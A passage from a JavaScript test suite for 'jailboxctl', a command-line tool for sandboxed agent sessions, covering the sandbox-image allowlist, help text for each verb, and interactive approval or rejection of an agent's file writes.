    r = await client.callTool({ name: 'read', arguments: { path: 'README' } });
    assert.equal(r.content[0].text, 'a tiny C project\n');
  } finally {
    await client.close();
    w.kill();
    await proxy.close();
  }
  assert.doesNotMatch(bridgeErr + werr, SANITIZER);
});

test('open --image: the session\'s sandbox image, a name outside the allowlist refused (exit 1, 400)', async () => {
  const name = 'ws-img-' + Math.random().toString(36).slice(2);
  mkdirSync(join(srv.wsroot, name), { recursive: true });
  let r = await ctl(['open', '--workspace', name, '--agent', 'ctl-agent', '--image', 'debian:12', '--json'],
    { token: srv.serviceToken });
  assert.equal(r.code, 1, r.stderr);
  assert.match(r.stderr, /400/);
  assert.match(r.stderr, /JAILBOX_SANDBOX_IMAGES/);
  // JAILBOX_SANDBOX_IMAGE is always allowed; the answer and status name the image
  r = await ctl(['open', '--workspace', name, '--agent', 'ctl-agent', '--image', IMAGE], { token: srv.serviceToken });
  assert.equal(r.code, 0, r.stderr);
  assert.match(r.stdout, new RegExp(`image ${IMAGE}\\)`));
  const job = r.stdout.match(/^opened (\S+)/)[1];
  r = await ctl(['status', job], { token: srv.serviceToken });
  assert.equal(r.code, 0, r.stderr);
  assert.match(r.stdout, new RegExp(`\\n  image +${IMAGE}\\n`));
  await srv.req('POST', `/v1/jailbox/${job}/abort`, { token: srv.serviceToken, body: { reason: 'test cleanup' } });
});

test('--help for every verb, exit 0; the overview lists them all', async () => {
  const all = await ctl(['--help']);
  assert.equal(all.code, 0);
  const verbs = ['open', 'status', 'watch', 'ops', 'approve', 'reject', 'kill', 'diff', 'pause', 'resume', 'abort', 'accept',
    'changes', 'rollback', 'agents', 'explain', 'keys', 'audit keys', 'audit export', 'audit verify', 'keys rotate',
    'token create', 'mcp-bridge'];
  for (const v of verbs) {
    assert.match(all.stdout, new RegExp('jailboxctl ' + v + '\\b'), v);
    const r = await ctl([...v.split(' '), '--help']);
    assert.equal(r.code, 0, v + ': ' + r.stderr);
    assert.match(r.stdout, new RegExp('^usage:\\n  jailboxctl ' + v + '\\b'), v);
  }
});

test('watch --decide: the buyer approves with allow-similar and rejects from stdin', async () => {
  const S = await openSession('supervised');
  const c = spawn(CTL, ['watch', S.jobId, '--decide'], {
    env: { ...process.env, JAILBOX_URL: srv.url, JAILBOX_WS_URL: wsUrl, JAILBOX_TOKEN: S.buyerToken },
  });
  children.push(c);
  let out = '', err = '';
  c.stdout.on('data', (d) => { out += d; });
  c.stderr.on('data', (d) => { err += d; });
  await waitFor('watch connected', () => out.includes('state awaiting_agent'));
  const { client } = await mcpClient(S.jobId, S.agentToken);
  const call = (path, content) => client.callTool({ name: 'write', arguments: { path, content } },
    undefined, { timeout: 60000 });
  try {
    // a line before any request: told so, nothing decided
    c.stdin.write('a\n');
    await waitFor('the refusal of an empty decision', () => err.includes('no approval request yet'));
    const first = call('src/b.c', 'int b;\n');
    await waitFor('the choices', () => /decide: a (\d+) = approve/.test(out));
    const op = Number(out.match(/decide: a (\d+) = approve/)[1]);
    assert.match(out, new RegExp(`a ${op} directory = approve, allow write in its directory`));
    assert.match(out, new RegExp(`a ${op} extension = approve, allow write of \\*\\.c there`));
    assert.match(out, new RegExp(`a ${op} session = approve`));
    assert.doesNotMatch(out, new RegExp(`a ${op} command`)); // not an exec
    c.stdin.write('a nonsense\n');
    await waitFor('a bad key refused', () => err.includes("'nonsense' is not an allow-similar key"));
    c.stdin.write('a d\n'); // the newest request, allow similar by directory
    const r1 = await first;
    assert.equal(r1.isError, false, JSON.stringify(r1));
    await waitFor('the decision printed', () => out.includes(`decided op #${op}: `) && out.includes('allowed from now on by rule'));
    // the next write in src/ runs without asking; one elsewhere asks and is rejected with a reason
    const r2 = await call('src/c.c', 'int c;\n');
    assert.equal(r2.isError, false, JSON.stringify(r2));
    const ops = JSON.parse((await ctl(['ops', S.jobId, '--json'], { token: S.buyerToken })).stdout).ops;
    const second = ops.find((o) => o.path === 'src/c.c');
    assert.match(second.decidedBy, /^rule:/);
    const third = call('README', 'changed\n');
    await waitFor('the second request', () => (out.match(/decide: a \d+ = approve/g) || []).length === 2);
    const op3 = Number([...out.matchAll(/decide: a (\d+) = approve/g)].at(-1)[1]);
    assert.notEqual(op3, op);
    c.stdin.write(`r ${op3} not the README\n`);
    const r3 = await third;
    assert.equal(r3.isError, true);
    assert.equal(r3.structuredContent.error.reason, 'rejected');
    const rejected = JSON.parse((await ctl(['ops', S.jobId, '--json'], { token: S.buyerToken })).stdout)
      .ops.find((o) => o.opId === op3);
    assert.equal(rejected.state, 'rejected');
    assert.match(JSON.stringify(rejected), /not the README/);
    assert.doesNotMatch(err, SANITIZER);
  } finally {
    await client.close();
    c.kill();
  }
});
